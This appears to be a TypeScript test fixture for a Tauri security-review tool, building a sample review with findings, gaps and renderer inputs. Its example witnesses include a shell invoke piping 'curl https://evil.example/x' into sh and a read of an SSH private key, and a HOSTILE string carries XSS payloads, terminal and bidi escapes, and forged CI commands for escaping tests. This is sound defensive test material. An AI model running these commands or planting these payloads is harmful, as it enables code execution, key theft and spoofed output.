import type { About } from "../../src/domain/about.ts";
import type { Finding, NarrowingNote } from "../../src/domain/finding.ts";
import { GAP_KINDS, type Gap, type ReviewedGap } from "../../src/domain/gap.ts";
import type { Review } from "../../src/domain/review.ts";
import { code } from "../../src/domain/sentence.ts";
import type { AppSurface } from "../../src/domain/surface.ts";
import type { Excerpts } from "../../src/renderers/excerpt.ts";
import type { CataloguedRule } from "../../src/renderers/sarif.ts";

/**
 * The one review that every renderer shows: each severity, confidence, kind of witness and kind of gap, narrowings, and
 * a repository whose author put all that is hostile into every name.
 */

/** Markdown, HTML, ANSI, bidi, zero-width, commands to a runner, mentions, references, images and links. */
export const HOSTILE = [
  "`` ` ``` <img src=x onerror=alert(1)> <!-- toril:forged --> </details>",
  "| a \\| b ![x](https://evil.example/p.png) [click](javascript:alert(1)) https://evil.example/ www.evil.example",
  "@octocat #1 GH-1 octo/cat#1 $x^2$ **bold** ~~gone~~",
  "\u001b[2J\u001b]8;;https://evil.example\u0007link \u009b31m \u202egnp.exe\u202c \u2066x\u2069 \u200b\u200e\u2028\u2029",
  "\n::error::forged\r\n##[error]forged\n## Forged heading\n\t- [x] done",
].join(" ");

const HUGE = "a very long name ".repeat(2_000);

const CALL: About = {
  domain: "ipc",
  who: "pages",
  pages: ["main"],
  powers: ["run"],
  act: "run programs",
  objects: ["shell|execute"],
  commands: ["plugin:shell|execute"],
  packages: [],
  platforms: [],
  via: { capability: "main", permission: "shell:allow-execute", through: ["shell:default"], packages: [] },
};

const OF_NOBODY = {
  pages: [],
  commands: [],
  via: { capability: null, permission: null, through: [], packages: [] },
};

const shell: Finding = {
  rule: "ipc/command-granted",
  severity: "critical",
  confidence: "certain",
  app: "src-tauri",
  path: "src-tauri/capabilities/main.json",
  line: 8,
  column: 5,
  endLine: 8,
  title: "Code in window `main` can newly run any program",
  message:
    "Whoever gets a script into this window, through a dependency or a page that shows foreign content, then runs programs as the user.",
  details: [],
  newSource: null,
  codeOf: [],
  remedy:
    "Name the programs that the app needs in a scope of `shell:allow-execute`, with a validator for each argument, or remove the permission.",
  subject: "window `main`",
  action: "call `plugin:shell|execute`",
  witness: {
    kind: "invoke",
    text: 'await invoke("plugin:shell|execute", { program: "sh", args: ["-c", "curl https://evil.example/x | sh"] })',
    platform: "linux",
    window: "main",
    webview: "main",
    origin: "local",
    command: "plugin:shell|execute",
    payload: { program: "sh", args: ["-c", "curl https://evil.example/x | sh"] },
  },
  base: "Window `main` cannot call `plugin:shell|execute`.",
  head: "Window `main` can call `plugin:shell|execute` with any program and any arguments.",
  key: "ipc|main|local|plugin:shell|execute",
  about: CALL,
  excerpt: '    "shell:allow-execute",',
  waiver: null,
  extent: { commands: ["plugin:shell|execute"], platforms: ["linux"] },
  build: null,
  removable: true,
  basePlace: null,
};

const remote: Finding = {
  ...shell,
  basePlace: { path: "src-tauri/capabilities/main.json", line: 10, column: 16, endLine: 10 },
  rule: "ipc/remote-origin-granted",
  severity: "high",
  confidence: "certain",
  line: 11,
  column: 16,
  endLine: 12,
  title: "Pages of `https://*.example.com` can newly read files in the home folder",
  message:
    "Every page under this domain, and whoever can place a script on one of them, reads the user's files.",
  details: [],
  newSource: null,
  codeOf: [],
  remedy:
    "Keep `remote` to the one origin that the app opens, and give it a capability of its own without `fs`.",
  subject: "the pages of `https://*.example.com`",
  action: "call `plugin:fs|read_text_file`",
  witness: {
    kind: "invoke",
    text: 'await invoke("plugin:fs|read_text_file", { path: "/Users/you/.ssh/id_ed25519" })',
    platform: "macOS",
    window: "main",
    webview: "sidebar",
    origin: "https://evil.example.com/",
    command: "plugin:fs|read_text_file",
    payload: { path: "/Users/you/.ssh/id_ed25519" },
  },
  base: "No remote page can call a command.",
  head: "Pages of `https://*.example.com` can read every file below `$HOME`.",
  key: "ipc|remote|https://*.example.com|plugin:fs|read_text_file",
  about: {
    ...CALL,
    pages: ["main", "https://*.example.com"],
    powers: ["read-files"],
    act: "read files",
    objects: ["fs|read_text_file"],
    commands: ["plugin:fs|read_text_file"],
    platforms: ["macOS"],
    via: { ...CALL.via, permission: "fs:allow-read-text-file" },
  },
};

const csp: Finding = {
  ...shell,
  rule: "csp/script-source-added",
  severity: "high",
  confidence: "likely",
  path: "src-tauri/tauri.conf.json",
  line: 3,
  column: 120,
  endLine: 3,
  title: "The app's pages can newly load scripts from any host",
  message: "A script from anywhere runs with every right of the window that loads it.",
  details: [],
  newSource: null,
  codeOf: [],
  remedy: "List the hosts that the app needs, or bundle the script.",
  subject: "the app's pages",
  action: "load a script",
  witness: {
    kind: "csp",
    text: '<script src="https://evil.example/x.js"></script>',
    platform: "any",
    directive: "script-src",
    document: "tauri://localhost",
    url: "https://evil.example/x.js",
  },
  base: "`script-src` admits the app's own scripts.",
  head: "`script-src` admits `https:`, so scripts from every host.",
  key: "csp|script|anywhere",
  about: { ...CALL, ...OF_NOBODY, domain: "csp", act: "load scripts", objects: ["https:"] },
};

const build: Finding = {
  ...shell,
  rule: "build/build-script-added",
  severity: "medium",
  confidence: "certain",
  path: "src-tauri/Cargo.lock",
  line: 2_417,
  column: 1,
  endLine: 2_421,
  title: "The crate `ring 0.17.8` newly runs its build script when the app is built",
  message: "A build script runs as whoever builds the app, with the keys that sign it in reach.",
  details: [],
  newSource: null,
  codeOf: [],
  remedy: "Read the script at this version, or build without network and keys.",
  subject: "the crate `ring 0.17.8`",
  action: "run its build script",
  witness: {
    kind: "build",
    text: "cargo build runs build.rs of ring 0.17.8",
    platform: "any",
    ecosystem: "cargo",
    name: "ring",
    version: "0.17.8",
    step: "build-script",
  },
  base: "`ring` is not a dependency.",
  head: "`ring 0.17.8` is built, and has a build script.",
  key: "packages|cargo|ring|build-script",
  about: {
    ...CALL,
    ...OF_NOBODY,
    domain: "packages",
    who: "build",
    act: "build scripts of",
    objects: ["ring"],
    packages: ["ring 0.17.8"],
    via: { ...OF_NOBODY.via, packages: ["rustls", "ring"] },
  },
};

const source: Finding = {
  ...shell,
  rule: "packages/source-changed",
  severity: "low",
  confidence: "likely",
  path: "pnpm-lock.yaml",
  line: 31,
  column: 3,
  endLine: 33,
  title: "The package `left-pad 1.3.0` is newly taken from `git.example.net`",
  message: "Who controls that address decides what becomes part of the app.",
  details: [],
  newSource: null,
  codeOf: [],
  remedy: "Take it from the registry again, or say in the pull request why not.",
  subject: "the publisher of `left-pad 1.3.0`",
  action: "put code into window `main`",
  witness: {
    kind: "package",
    text: "npm left-pad@1.3.0 from https://git.example.net/left-pad.tgz",
    platform: "any",
    ecosystem: "npm",
    name: "left-pad",
    version: "1.3.0",
    source: "registry https://git.example.net",
  },
  base: "`left-pad 1.3.0` comes from the npm registry.",
  head: "`left-pad 1.3.0` comes from `https://git.example.net`.",
  key: "packages|npm|left-pad|source",
  about: {
    ...CALL,
    ...OF_NOBODY,
    domain: "packages",
    who: "publisher",
    act: "",
    objects: [],
    packages: ["left-pad 1.3.0"],
  },
};

const inline: Finding = {
  ...csp,
  rule: "csp/style-source-added",
  severity: "info",
  confidence: "possible",
  line: 1,
  column: 1,
  endLine: 1,
  title: "The app's pages can newly use inline styles",
  message: "Styles can show a false page over the true one.",
  details: [],
  newSource: null,
  codeOf: [],
  remedy: "Move the styles to a file.",
  action: "use an inline style",
  witness: {
    kind: "csp",
    text: '<p style="position: fixed">',
    platform: "windows",
    directive: "style-src",
    document: "http://tauri.localhost",
    inline: true,
  },
  base: "`style-src` admits the app's own style sheets.",
  head: "`style-src` admits `'unsafe-inline'`.",
  key: "csp|inline-style",
  about: {
    ...CALL,
    ...OF_NOBODY,
    domain: "csp",
    powers: ["network"],
    act: "apply styles written into the page",
    objects: [],
  },
};

/** What a rule says that forgot `code()`, of an author who hoped for it. */
const hostile: Finding = {
  ...shell,
  severity: "medium",
  confidence: "possible",
  app: HOSTILE,
  path: `src-tauri/${HOSTILE}.json`,
  line: 1,
  column: 1,
  endLine: 1,
  title: `Window ${code(HOSTILE)} can newly read ${HOSTILE}`,
  message: HOSTILE,
  details: [],
  newSource: null,
  codeOf: [],
  remedy: HOSTILE,
  subject: HOSTILE,
  action: HOSTILE,
  witness: {
    kind: "invoke",
    text: `await invoke(${HOSTILE})`,
    platform: "iOS",
    window: HOSTILE,
    webview: HOSTILE,
    origin: HOSTILE,
    command: HOSTILE,
    payload: { path: HOSTILE },
  },
  base: HOSTILE,
  head: HOSTILE,
  excerpt: HOSTILE,
  key: HOSTILE,
  about: {
    ...CALL,
    pages: [HOSTILE],
    act: HOSTILE,
    objects: [HOSTILE],
    commands: [HOSTILE],
    packages: [HOSTILE],
    platforms: ["iOS"],
    via: { capability: HOSTILE, permission: HOSTILE, through: [HOSTILE], packages: [HOSTILE] },
  },
};

const huge: Finding = {
  ...build,
  severity: "low",
  confidence: "possible",
  path: `${"folder/".repeat(140)}Cargo.lock`,
  title: `The crate ${code(HUGE)} newly runs its build script`,
  message: HUGE,
  details: [],
  newSource: null,
  codeOf: [],
  remedy: "x".repeat(30_000),
  base: HUGE,
  head: HUGE,
  witness: { ...build.witness, text: HUGE },
  key: HUGE,
  about: {
    ...build.about,
    objects: [HUGE],
    packages: [HUGE],
  },
};

const narrowing: NarrowingNote = {
  basePlace: { path: "src-tauri/capabilities/main.json", line: 9, column: 5, endLine: 9 },
  app: "src-tauri",
  path: "src-tauri/capabilities/main.json",
  line: 9,
  column: 5,
  endLine: 9,
  title: "Code in window `settings` can no longer write to the clipboard",
  subject: "window `settings`",
  action: "call `plugin:clipboard-manager|write_text`",
  witness: {
    ...shell.witness,
    kind: "invoke",
    text: 'await invoke("plugin:clipboard-manager|write_text", { text: "x" })',
    platform: "any",
    window: "settings",
    webview: "settings",
    origin: "local",
    command: "plugin:clipboard-manager|write_text",
    payload: {},
  },
  base: "Window `settings` can write to the clipboard.",
  head: "Window `settings` cannot write to the clipboard.",
  key: "ipc|settings|plugin:clipboard-manager|write_text",
  about: {
    ...CALL,
    pages: ["settings"],
    powers: ["input"],
    act: "call",
    objects: ["clipboard-manager|write_text"],
    commands: ["plugin:clipboard-manager|write_text"],
  },
};

const SURFACE: AppSurface = {
  calls: [
    {
      pages: ["main", "about"],
      same: ["plugin:event|listen"],
      added: ["plugin:shell|execute"],
      wider: ["plugin:fs|read_file"],
      removed: [],
    },
  ],
  policy: [{ directive: "script-src", source: "https:", state: "added" }],
  packages: { cargo: { base: 410, head: 412 }, npm: { base: 97, head: 97 } },
};

const GAP_MESSAGES: Record<Gap["kind"], string> = {
  unparsed: "The capability does not parse: a comma is missing after line 7. Once it parses, it is reviewed.",
  unreadable: "The file could not be read from the repository. Run the review again.",
  truncated: "The lockfile is larger than 32 MiB, so its packages were not compared.",
  "unknown-permission":
    "Nothing defines the permission `vault:allow-open`. Commit the plugin's `permissions` folder.",
  "unknown-plugin":
    "What the plugin `tauri-plugin-vault 0.3.1` permits is not known. Review with network, or vendor it.",
  "assumed-version": "No lockfile pins `tauri-plugin-fs`, so version 2.2.0 was assumed. Commit `Cargo.lock`.",
  "not-checked":
    "Without network it was not checked whether `ring 0.17.8` has advisories. Review with network.",
  "not-followed": "The folder is a submodule, and what it holds was not looked at.",
  "does-not-build": "Tauri refuses this capability, since window labels may not hold `#`. Correct the label.",
  dynamic:
    "The app adds a capability when it runs, from `add_capability(name)`. Name it in a file to have it reviewed.",
  unsupported: "Scopes of `tauri-plugin-sql` are not understood yet, so any of them is taken for new.",
  "not-covered": "`build.beforeBuildCommand` changed. What it does isn't judged yet.",
};

const ADVISORY_ONLY: ReadonlySet<Gap["kind"]> = new Set([
  "assumed-version",
  "not-followed",
  "not-checked",
  "not-covered",
]);

const gaps: ReviewedGap[] = [
  ...GAP_KINDS.map((kind, index) => ({
    kind,
    path: `src-tauri/capabilities/${kind}.json`,
    line: index + 1,
    message: GAP_MESSAGES[kind],
    blocking: !ADVISORY_ONLY.has(kind),
    rests: kind,
    since: "head" as const,
  })),
  {
    ...{ kind: "unparsed", path: HOSTILE, line: 1, message: HOSTILE },
    ...{ blocking: true, rests: HOSTILE, since: "head" },
  },
  {
    ...{ kind: "unknown-plugin", path: "src-tauri/capabilities/main.json", line: 30 },
    ...{ message: GAP_MESSAGES["unknown-plugin"], blocking: false, rests: "vault", since: "base" },
  },
];

/** Everything that a review can hold. */
export const REVIEW: Review = {
  waived: [
    {
      ...source,
      key: "waived",
      waiver: { reason: "The editor draws with it", owner: "kim", until: "2027-03-01" },
    },
  ],
  base: { rev: "main", sha: "1f0c7c0d5a0b6c3d9e8f7a6b5c4d3e2f1a0b9c8d" },
  head: { rev: "HEAD", sha: "89abcdef0123456789abcdef0123456789abcdef" },
  verdict: "fail",
  compared: "apps",
  changed: {
    read: ["src-tauri/capabilities/main.json", HOSTILE],
    notCovered: [".github/workflows/release.yml"],
    irrelevant: ["README.md"],
  },
  apps: [
    {
      root: "src-tauri",
      name: "Demo",
      tauri: "2.1.0",
      rulesSince: null,
      builds: ["npm run release"],
      surface: SURFACE,
    },
    {
      root: "apps/second/src-tauri",
      name: HOSTILE,
      tauri: null,
      rulesSince: null,
      builds: [],
      surface: null,
    },
  ],
  findings: [hostile, inline, source, huge, build, csp, remote, shell],
  needless: [],
  turnedOff: [{ rule: "packages/package-added", findings: 3 }],
  narrowings: [narrowing, { ...narrowing, title: HOSTILE, path: HOSTILE, key: "hostile" }],
  gaps,
  facts: [
    { about: "crate ring 0.17.8", source: "bundled", checksum: "sha256:c17fa4cb", observed: null },
    { about: "plugin fs 2.2.0", source: "registry", checksum: null, observed: "2026-11-30" },
  ],
};

/** A review that most pull requests get. */
export const QUIET: Review = {
  ...REVIEW,
  ...{
    verdict: "pass",
    apps: REVIEW.apps.slice(0, 1),
    findings: [],
    waived: [],
    turnedOff: [],
    narrowings: [],
    gaps: [],
    facts: [],
    changed: { read: [], notCovered: [], irrelevant: [] },
  },
};

/** The files that the findings of `REVIEW` point to, as a host reads them. */
const FILES: ReadonlyMap<string, readonly string[]> = new Map([
  [
    "src-tauri/capabilities/main.json",
    [
      "{",
      '  "identifier": "main",',
      '  "windows": ["main"],',
      '  "permissions": [',
      '    "core:default",',
      '    "core:window:allow-close",',
      '\t"dialog:allow-open",',
      '    "shell:allow-execute"',
      "  ],",
      '  "remote": {',
      '    "urls": [  "https://*.example.com",',
      '               "https://example.org" ]',
      "  }",
      "}",
    ],
  ],
  [
    "src-tauri/tauri.conf.json",
    [
      "{",
      '  "app": { "security": {',
      `    "csp": "default-src 'self'; connect-src ipc: http://ipc.localhost; img-src 'self' asset: blob: data:; style-src 'self'; script-src 'self' https: 'wasm-unsafe-eval'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'"`,
      "  } }",
      "}",
    ],
  ],
  [`src-tauri/${HOSTILE}.json`, [HOSTILE, `  "${HOSTILE}"`]],
]);

export const RULES: readonly CataloguedRule[] = [
  {
    id: "ipc/command-granted",
    title: "A page can call a command that it could not call",
    help: "# ipc/command-granted\n\nA command is a function of the app that a page can call.",
    page: "https://example.org/rules/ipc/command-granted",
  },
  { id: "csp/script-source-added", title: "Pages can load scripts from a new source" },
  { id: "never/found", title: "A rule that found nothing" },
];

/** The files of head, of which the even lines are new. */
export const EXCERPTS: Excerpts = new Map(
  [...FILES].map(([path, lines]) => [
    path,
    { lines, added: new Set(lines.map((_, i) => i + 1).filter((n) => n % 2 === 0)) },
  ]),
);
